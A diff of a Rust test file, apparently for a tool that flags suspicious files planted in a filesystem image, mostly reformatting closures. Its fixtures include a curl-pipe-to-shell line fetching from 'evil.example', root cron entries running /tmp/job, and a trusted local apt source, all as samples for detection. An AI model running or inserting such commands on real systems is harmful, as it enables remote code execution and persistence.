@@ -6,7 +6,12 @@ const SH: &[u8] = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n";
 
 /// What is said of a file that only the right image has.
 fn planted(path: &str, bytes: &[u8]) -> Explanation {
-    explanation(&changed(|image| drop(image.write(path, bytes))), path)
+    explanation(
+        &changed(|image| {
+            image.write(path, bytes);
+        }),
+        path,
+    )
 }
 
 /// The same, beside other files that both have.
@@ -50,9 +55,13 @@ fn what_daemons_and_tools_read_in_run_is_shown() {
     for (path, bytes) in [("run/x.pid", &b"17\n"[..]), ("run/lock/apache2", b""), ("run/.containerenv", b"")] {
         assert_eq!(planted(path, bytes), Explanation::Noise, "{path}");
     }
-    let empty = changed(|image| drop(image.directory("run/lock")));
+    let empty = changed(|image| {
+        image.directory("run/lock");
+    });
     assert_eq!(explanation(&empty, "run/lock"), Explanation::Noise);
-    let link = changed(|image| drop(image.write("tmp/x.txt", b"x").symlink("run/systemd/x.service", "/tmp/x.txt")));
+    let link = changed(|image| {
+        image.write("tmp/x.txt", b"x").symlink("run/systemd/x.service", "/tmp/x.txt");
+    });
     assert_eq!(explanation(&link, "run/systemd/x.service"), Explanation::Unexplained);
 }
 
@@ -247,7 +256,11 @@ fn what_commands_name_is_used() {
 
 #[test]
 fn what_programs_read_at_start_names_files_too() {
-    let by = |path: &str, text: &str| reached("tmp/job", |image| drop(image.write(path, text.as_bytes())));
+    let by = |path: &str, text: &str| {
+        reached("tmp/job", |image| {
+            image.write(path, text.as_bytes());
+        })
+    };
     for (path, text) in [
         ("etc/cron.d/app", "* * * * * root sh /tmp/job\n"),
         ("etc/crontab", "* * * * * root . /tmp/job\n"),
@@ -262,7 +275,9 @@ fn what_programs_read_at_start_names_files_too() {
     }
     assert_eq!(by("etc/motd", "see /tmp/job\n"), Explanation::Noise);
     let repository = |text: &str| {
-        reached("var/tmp/repo/Packages", |image| drop(image.write("etc/apt/sources.list", text.as_bytes())))
+        reached("var/tmp/repo/Packages", |image| {
+            image.write("etc/apt/sources.list", text.as_bytes());
+        })
     };
     assert_eq!(repository("deb [trusted=yes] file:/var/tmp/repo ./\n"), Explanation::Unexplained);
     assert_eq!(repository("deb [trusted=yes] file:/ ./\n"), Explanation::Noise);
